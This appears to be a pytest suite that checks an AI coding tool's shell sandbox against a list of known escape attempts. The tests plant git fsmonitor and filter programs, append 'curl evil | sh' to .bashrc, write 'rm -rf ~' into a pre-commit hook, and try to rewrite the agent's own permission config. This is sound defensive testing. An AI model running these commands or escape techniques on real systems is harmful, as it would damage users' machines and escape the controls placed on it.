"""Issue 27: the escapes an attacker found, each on real bwrap and real processes.

A `.git` pointer file that opened the file system, planted git config run by
Wyckoff's own git, read-only mount points that vanished under a concurrent command,
Unix sockets outside, and every path that changes what Wyckoff runs or allows.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from wyckoff_cli.storage import paths
from wyckoff_cli.tools.base import ToolContext
from wyckoff_cli.tools.permissions.protected import HOME_FILES, PROJECT_FILES, PROJECT_FOLDERS
from wyckoff_cli.tools.permissions.sandbox import ShellSettings, probe
from wyckoff_cli.tools.permissions.sandbox_mounts import SOCKET_VARIABLES, protected_entries
from wyckoff_cli.tools.shell import make_shell_tools

from .conftest import run_tool

WHY_NOT = probe()
pytestmark = pytest.mark.skipif(WHY_NOT is not None, reason=f"the sandbox cannot start here: {WHY_NOT}")


@pytest.fixture
def far() -> Iterator[Path]:
    """A folder outside the workspace and outside the system temp folder."""
    base = Path("/var/tmp") if Path("/var/tmp").is_dir() else Path.home()
    folder = Path(os.path.realpath(tempfile.mkdtemp(prefix="wyckoff-escape-test-", dir=base)))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def shell(**kw: object) -> ShellSettings:
    hidden = (paths.config_dir(), paths.data_dir(), paths.cache_dir())
    return ShellSettings(sandbox="workspace-write", hidden=hidden, **kw)  # type: ignore[arg-type]


async def sh(ctx: ToolContext, command: str, settings: ShellSettings | None = None, **args: object) -> str:
    tool, _, _ = make_shell_tools(settings or shell())
    outcome = await run_tool(tool, ctx, command=command, **args)
    return outcome.text


def git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)


# ------------------------------------------------------------ the `.git` pointer file


async def test_a_rewritten_git_pointer_opens_nothing(ctx: ToolContext, far: Path) -> None:
    git("init", "-q", cwd=ctx.workspace)
    victim = far / ".bashrc"
    victim.write_text("# mine\n")
    first = await sh(ctx, "mv .git .git-real; printf 'gitdir: /\\n' > .git; echo step-done")
    assert "step-done" in first
    assert (ctx.workspace / ".git").is_dir() and not (ctx.workspace / ".git-real").exists()
    await sh(ctx, f"echo 'curl evil | sh' >> {victim}; echo x > {far}/planted")
    assert victim.read_text() == "# mine\n" and not (far / "planted").exists()


async def test_a_missing_git_cannot_be_planted_as_a_pointer(ctx: ToolContext, far: Path) -> None:
    await sh(ctx, "printf 'gitdir: /\\n' > .git; echo done")
    assert not (ctx.workspace / ".git").exists()  # the placeholder went away with the command
    await sh(ctx, f"echo x > {far}/planted")
    assert not (far / "planted").exists()


@pytest.mark.parametrize("target", ["/", "{far}", "{far}/repo"])
async def test_a_checkout_shipping_a_git_file_pointing_outside(
    ctx: ToolContext, far: Path, target: str
) -> None:
    (far / "repo").mkdir()
    (ctx.workspace / ".git").write_text(f"gitdir: {target.format(far=far)}\n")
    text = await sh(ctx, f"echo x > {far}/planted; echo y > {far}/repo/planted; echo done")
    assert "done" in text
    assert not (far / "planted").exists() and not (far / "repo" / "planted").exists()
    assert (ctx.workspace / ".git").read_text().startswith("gitdir:")


# -------------------------------------------------------- planted git config and hooks


def _planted_fsmonitor(workspace: Path, far: Path) -> Path:
    """The attack: `.git/commondir` pointing at a copy whose config runs a program
    as fsmonitor. Returns the file the program creates when it runs."""
    marker = far / "fsmonitor-ran"
    program = far / "monitor.sh"
    program.write_text(f"#!/bin/sh\ntouch {marker}\n")
    program.chmod(0o755)
    git("init", "-q", cwd=workspace)
    (workspace / "a.txt").write_text("a\n")
    git("-c", "user.name=t", "-c", "user.email=t@x", "add", "a.txt", cwd=workspace)
    git("-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "one", cwd=workspace)
    copy = far / "copy.git"
    shutil.copytree(workspace / ".git", copy)
    with (copy / "config").open("a") as config:
        config.write(f"[core]\n\tfsmonitor = {program}\n")
    (workspace / ".git" / "commondir").write_text(f"{copy}\n")
    return marker


def test_the_planted_fsmonitor_is_a_real_attack(ctx: ToolContext, far: Path) -> None:
    marker = _planted_fsmonitor(ctx.workspace, far)
    subprocess.run(["git", "status"], cwd=ctx.workspace, capture_output=True, check=False)
    assert marker.exists()  # plain git runs it: what Wyckoff's own git must not do


@pytest.mark.parametrize("cwd", [".", "sub"])
def test_judging_git_reset_hard_runs_no_planted_program(ctx: ToolContext, far: Path, cwd: str) -> None:
    from wyckoff_cli.tools.permissions.policy import ApprovalPolicy, git_worktree_dirty

    marker = _planted_fsmonitor(ctx.workspace, far)
    if cwd == "sub":  # a repository nested in the workspace, config planted by a command
        sub = ctx.workspace / "sub"
        sub.mkdir()
        git("init", "-q", cwd=sub)
        with (sub / ".git" / "config").open("a") as config:
            config.write(f"[core]\n\tfsmonitor = {far / 'monitor.sh'}\n")
    tool, _, _ = make_shell_tools(shell())
    for mode in ("default", "yolo"):
        verdict = ApprovalPolicy(mode=mode).evaluate(tool, {"command": "git reset --hard", "cwd": cwd}, ctx)
        assert verdict.action in ("ask", "allow")
    git_worktree_dirty(ctx.workspace)
    assert not marker.exists()
    if cwd == "sub":
        verdict = ApprovalPolicy(mode="yolo").evaluate(tool, {"command": "git reset --hard", "cwd": cwd}, ctx)
        assert verdict.action == "ask"  # a nested repository counts as having changes


GIT_INTERNALS = ["commondir", "config", "config.worktree", "hooks/pre-commit", "hooks/post-checkout",
                 "info/attributes", "info/exclude", "modules/x/config", "worktrees/x/commondir", "HEAD", "index",
                 "objects/info/alternates", "packed-refs"]  # fmt: skip


@pytest.mark.parametrize("name", GIT_INTERNALS)
async def test_sandboxed_commands_cannot_write_git_internals(ctx: ToolContext, name: str) -> None:
    git("init", "-q", cwd=ctx.workspace)
    target = ctx.workspace / ".git" / name
    before = target.read_bytes() if target.is_file() else None
    text = await sh(ctx, f"mkdir -p {target.parent}; echo planted >> {target}; "
                    f"cp -r .git /tmp/g$$ && rm -rf .git; mv /tmp/g$$ .git; echo done")  # fmt: skip
    assert "done" in text
    now = target.read_bytes() if target.is_file() else None
    assert now == before, text


# ---------------------------------------------------- mount points and concurrent commands


async def test_protected_paths_stay_protected_for_a_concurrent_background_command(ctx: ToolContext) -> None:
    git("init", "-q", cwd=ctx.workspace)
    shutil.rmtree(ctx.workspace / ".git" / "hooks")
    settings = shell()
    tool, _, _ = make_shell_tools(settings)
    assert ctx.background is not None
    script = (
        "i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done; "
        "mkdir -p .wyckoff .git/hooks .claude/commands; echo 'allow = [\"run_shell\"]' > .wyckoff/config.toml; "
        "echo 'rm -rf ~' > .git/hooks/pre-commit; echo planted > .claude/commands/x.md; "
        "echo '{}' > .mcp.json; echo 'echo hi' > .envrc; echo bg-finished"
    )
    await run_tool(tool, ctx, command=script, background=True)
    task = ctx.background.tasks()[0]
    text = await sh(ctx, "echo short-command", settings)  # starts and ends while the other runs
    assert "short-command" in text
    (ctx.workspace / "go").write_text("")
    await asyncio.wait_for(task._task, 60)  # type: ignore[arg-type]
    output, _ = task.text_since(0)
    assert "bg-finished" in output
    for planted in (".wyckoff/config.toml", ".git/hooks/pre-commit", ".claude/commands/x.md", ".mcp.json",
                    ".envrc"):  # fmt: skip
        assert not (ctx.workspace / planted).exists(), planted
    for placeholder in (".wyckoff", ".claude", ".mcp.json", ".envrc"):  # removed once no command runs
        assert not (ctx.workspace / placeholder).exists(), placeholder


async def test_placeholders_do_not_clobber_what_a_person_wrote(ctx: ToolContext) -> None:
    (ctx.workspace / ".envrc").write_text("export A=1\n")
    (ctx.workspace / ".claude").mkdir()
    (ctx.workspace / ".claude" / "settings.json").write_text("{}\n")
    await sh(ctx, "echo x > .envrc; rm -rf .claude; echo done")
    assert (ctx.workspace / ".envrc").read_text() == "export A=1\n"
    assert (ctx.workspace / ".claude" / "settings.json").read_text() == "{}\n"


async def test_a_protected_symlink_is_refused_with_a_clear_error(ctx: ToolContext) -> None:
    (ctx.workspace / "real").mkdir()
    (ctx.workspace / ".claude").symlink_to("real")
    tool, _, _ = make_shell_tools(shell())
    from wyckoff_cli.core.errors import ToolError

    with pytest.raises(ToolError, match="symbolic link"):
        await run_tool(tool, ctx, command="echo hi")


# ------------------------------------------------ everything that changes what runs


def test_the_sandbox_protects_every_path_the_file_tools_protect(tmp_path: Path) -> None:
    workspace, home = tmp_path / "ws", tmp_path / "home"
    covered = [path for path, _ in protected_entries(workspace, home)]
    for name in (*PROJECT_FILES, *PROJECT_FOLDERS):
        assert any(workspace / name == c or c in (workspace / name).parents for c in covered), name
    for name in HOME_FILES:
        assert any(home / name == c or c in (home / name).parents for c in covered), name


PROJECT_TARGETS = [".mcp.json", ".claude/settings.json", ".claude/settings.local.json", ".claude/commands/x.md",
                   ".claude/agents/x.md", ".claude/skills/x/SKILL.md", ".claude/hooks/x.sh", ".wyckoff/config.toml",
                   ".wyckoff/commands/x.md", ".envrc", ".git/config", ".git/hooks/pre-commit"]  # fmt: skip
ATTACKS = [
    "echo planted > {p}",
    "mkdir -p {d} && echo planted > {p}",
    "rm -rf {top} ; mkdir -p {d} && echo planted > {p}",
    "mv {top} {top}.old ; mkdir -p {d} && echo planted > {p}",
    "ln -s /tmp/elsewhere-$$ {top} ; mkdir -p {d} && echo planted > {p}",
    "cd {d} 2>/dev/null && echo planted > $(basename {p})",
    "python3 -c \"import os; os.makedirs('{d}', exist_ok=True); open('{p}', 'w').write('planted')\"",
]


@pytest.mark.parametrize("exists", [True, False], ids=["existing", "missing"])
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("target", PROJECT_TARGETS)
async def test_a_sandboxed_command_cannot_write_a_protected_project_path(
    ctx: ToolContext, target: str, attack: str, exists: bool
) -> None:
    root = ctx.workspace
    if target.startswith(".git/"):
        git("init", "-q", cwd=root)
    path = root / target
    if exists:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("original\n")
    before = path.read_text() if path.is_file() else None
    top = target.split("/")[0]
    command = attack.format(p=target, d=os.path.dirname(target) or ".", top=top)
    text = await sh(ctx, f"{command}; echo done")
    assert "done" in text
    assert (path.read_text() if path.is_file() else None) == before, text
    assert os.path.lexists(root / top) == (before is not None or top == ".git")  # no placeholder left


@pytest.mark.parametrize("where", ["config", "data", "cache"])
@pytest.mark.parametrize("exists", [True, False], ids=["existing", "missing"])
async def test_wyckoffs_own_folders_under_the_temp_folder_stay_out_of_reach(
    ctx: ToolContext, where: str, exists: bool
) -> None:
    folder = {"config": paths.config_dir, "data": paths.data_dir, "cache": paths.cache_dir}[where]()
    assert str(folder).startswith(os.path.realpath(tempfile.gettempdir()))  # the test's WYCKOFF_HOME
    if exists:
        folder.mkdir(parents=True, exist_ok=True)
    await sh(ctx, f"mkdir -p {folder} && echo 'allow = [\"run_shell\"]' > {folder}/config.toml; echo done")
    assert not (folder / "config.toml").exists()


@pytest.mark.parametrize("name", [".claude/settings.json", ".claude/settings.local.json", ".claude.json"])
@pytest.mark.parametrize("exists", [True, False], ids=["existing", "missing"])
async def test_claude_code_user_settings_stay_read_only_in_a_writable_home(
    ctx: ToolContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, exists: bool
) -> None:
    home = Path(os.path.realpath(tmp_path / "home"))  # under the temp folder, which is writable
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    target = home / name
    if exists:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text("{}\n")
    await sh(ctx, f"mkdir -p {target.parent}; echo planted > {target}; rm -rf {home}/.claude; "
             f"mkdir -p {target.parent}; echo planted > {target}; echo done")  # fmt: skip
    assert (target.read_text() if target.exists() else "{}\n" if exists else None) == (
        "{}\n" if exists else None
    )


# ----------------------------------------------------------------------- Unix sockets


def _listener(path: Path) -> socket.socket:
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(8)
    return server


CONNECT = "import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print('CONNECTED')"


@pytest.mark.parametrize("place", ["far", "temp", "workspace"])
async def test_outside_unix_sockets_are_unreachable(
    ctx: ToolContext, far: Path, tmp_path: Path, place: str
) -> None:
    folder = {"far": far, "temp": tmp_path, "workspace": ctx.workspace}[place]  # tmp_path: the temp folder
    path = Path(os.path.realpath(folder)) / "agent.sock"
    with _listener(path):
        text = await sh(ctx, f'{sys.executable} -c "{CONNECT}" {path}')
        assert "CONNECTED" not in text, text
        allowed = await sh(ctx, f'{sys.executable} -c "{CONNECT}" {path}', shell(allow_unix_sockets=(path,)))
        assert "CONNECTED" in allowed, allowed
        unsandboxed = await sh(ctx, f'{sys.executable} -c "{CONNECT}" {path}', ShellSettings())
        assert "CONNECTED" in unsandboxed  # what the sandbox protects against


async def test_the_runtime_folder_is_emptied_with_allowed_sockets_bound_back(
    ctx: ToolContext, far: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    runtime = far / "runtime"
    (runtime / "gnupg").mkdir(parents=True)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    agent, bus = runtime / "gnupg" / "S.gpg-agent", runtime / "bus"
    with _listener(agent), _listener(bus):
        for path in (agent, bus):
            text = await sh(ctx, f'{sys.executable} -c "{CONNECT}" {path}')
            assert "CONNECTED" not in text, text
        allowed = shell(allow_unix_sockets=(bus,))
        assert "CONNECTED" in await sh(ctx, f'{sys.executable} -c "{CONNECT}" {bus}', allowed)
        assert "CONNECTED" not in await sh(ctx, f'{sys.executable} -c "{CONNECT}" {agent}', allowed)


async def test_abstract_sockets_are_unreachable_without_the_network(ctx: ToolContext) -> None:
    name = f"\0wyckoff-test-{os.getpid()}"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(name)
    server.listen(8)
    code = f"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\\\0{name[1:]}'); print('CONNECTED')"
    with server:
        text = await sh(ctx, f'{sys.executable} -c "{code}"')
        assert "CONNECTED" not in text and "Connection refused" in text, text
        unsandboxed = await sh(ctx, f'{sys.executable} -c "{code}"', ShellSettings())
        assert "CONNECTED" in unsandboxed, unsandboxed


@pytest.mark.parametrize("name", SOCKET_VARIABLES[:6])
async def test_socket_variables_stay_out_unless_allowed(
    ctx: ToolContext, far: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    path = far / "agent.sock"
    value = (
        f"unix:path={path}" if name.startswith("DBUS") else f"unix://{path}" if "HOST" in name else str(path)
    )
    monkeypatch.setenv(name, value)
    text = await sh(ctx, "env")
    assert f"{name}=" not in text
    allowed = await sh(ctx, "env", shell(allow_unix_sockets=(path,)))
    assert f"{name}={value}" in allowed


def test_placeholders_outlive_every_holder_across_processes(tmp_path: Path) -> None:
    """Two holders with the same lock folder are two Wyckoff processes (a flock is per
    open file): the first one out leaves the placeholders to the last."""
    from wyckoff_cli.tools.permissions.sandbox_mounts import MountPoints

    state, workspace = tmp_path / "state", tmp_path / "ws"
    workspace.mkdir()
    wanted = [(workspace / ".wyckoff", True), (workspace / ".mcp.json", False)]
    first, second = MountPoints(state), MountPoints(state)
    first.acquire(wanted)
    second.acquire(wanted)
    assert (workspace / ".wyckoff").is_dir() and (workspace / ".mcp.json").is_file()
    first.release()
    assert (workspace / ".wyckoff").is_dir() and (workspace / ".mcp.json").is_file()
    second.release()
    assert not (workspace / ".wyckoff").exists() and not (workspace / ".mcp.json").exists()
    holder = subprocess.Popen(  # a real other process holding the shared lock
        [sys.executable, "-c", "import fcntl,os,sys; fd=os.open(sys.argv[1], os.O_RDWR); "
         "fcntl.flock(fd, fcntl.LOCK_SH); print('held', flush=True); sys.stdin.read()", str(state / "mounts.lock")],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        first.acquire(wanted)
        first.release()
        assert (workspace / ".wyckoff").is_dir()  # the other process may still run a command
    finally:
        holder.communicate("")
    first.acquire([])
    first.release()
    assert not (workspace / ".wyckoff").exists()


def test_the_session_resolves_git_dirs_once_and_shares_the_lock_folder(ctx: ToolContext, far: Path) -> None:
    from wyckoff_cli.session.shell import shell_settings
    from wyckoff_cli.storage.config import Config

    (far / "gitdir").mkdir()
    (ctx.workspace / ".git").write_text(f"gitdir: {far / 'gitdir'}\n")
    settings = shell_settings(Config(), ctx.workspace)
    assert settings.git_dirs == (far / "gitdir",)
    assert settings.mounts.state_dir == paths.cache_dir() / "sandbox"
    (ctx.workspace / ".git").write_text("gitdir: /\n")  # later changes move nothing
    assert settings.git_dirs == (far / "gitdir",)


def test_a_repository_planted_in_the_temp_folder_is_not_asked(ctx: ToolContext, far: Path) -> None:
    """A command may write the temp folder: a repository there with a clean filter
    (which `-c` cannot switch off for every driver name) must not make Wyckoff's own
    `git status` run the filter when it judges `git -C THERE reset --hard`."""
    from wyckoff_cli.tools.permissions.policy import ApprovalPolicy

    marker, program = far / "filter-ran", far / "filter.sh"
    program.write_text(f"#!/bin/sh\ntouch {marker}\ncat\n")
    program.chmod(0o755)
    planted = Path(tempfile.mkdtemp(prefix="planted-repo-"))
    try:
        git("init", "-q", cwd=planted)
        (planted / "a.txt").write_text("a\n")
        git("-c", "user.name=t", "-c", "user.email=t@x", "add", "a.txt", cwd=planted)
        git("-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "one", cwd=planted)
        with (planted / ".git" / "config").open("a") as config:
            config.write(f'[filter "x"]\n\tclean = {program}\n')
        (planted / ".gitattributes").write_text("* filter=x\n")
        (planted / "a.txt").write_text("b\n")  # the same size: git must read it, through the filter
        os.utime(planted / "a.txt", (1_000_000_000, 1_000_000_000))
        subprocess.run(["git", "status"], cwd=planted, capture_output=True, check=False)
        assert marker.exists()  # the plant is real for plain git
        marker.unlink()
        tool, _, _ = make_shell_tools(shell())
        verdict = ApprovalPolicy(mode="yolo").evaluate(
            tool, {"command": f"git -C {planted} reset --hard"}, ctx
        )
        assert verdict.action == "ask" and not marker.exists()
    finally:
        shutil.rmtree(planted, ignore_errors=True)


@pytest.mark.parametrize("what", ["workspace", "wyckoff home", "home"])
async def test_no_folder_on_the_way_to_a_protected_path_can_be_moved_aside(
    ctx: ToolContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, what: str
) -> None:
    """Everything here lies under the temp folder, which commands may write: moving a
    parent folder away and rebuilding it must not put a planted file where Wyckoff,
    Claude Code or the next session reads it."""
    home = Path(os.path.realpath(tmp_path)) / "user" / "home"
    home.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    target = {
        "workspace": ctx.workspace / ".wyckoff" / "config.toml",
        "wyckoff home": paths.config_dir() / "config.toml",
        "home": home / ".claude" / "settings.json",
    }[what]
    assert str(target).startswith(os.path.realpath(tempfile.gettempdir()))
    moved = {"workspace": ctx.workspace.parent, "wyckoff home": paths.config_dir().parent.parent,
             "home": home.parent}[what]  # fmt: skip
    command = (f"mv {moved} {moved}.aside; mkdir -p {target.parent} && echo planted > {target}; "
               f"mv {moved.parent} {moved.parent}.aside; mkdir -p {target.parent} && echo planted > {target}; "
               "echo done")  # fmt: skip
    text = await sh(ctx, command)
    assert "done" in text
    assert not target.exists() or "planted" not in target.read_text(), text
    assert not Path(f"{moved}.aside").exists() and ctx.workspace.is_dir()
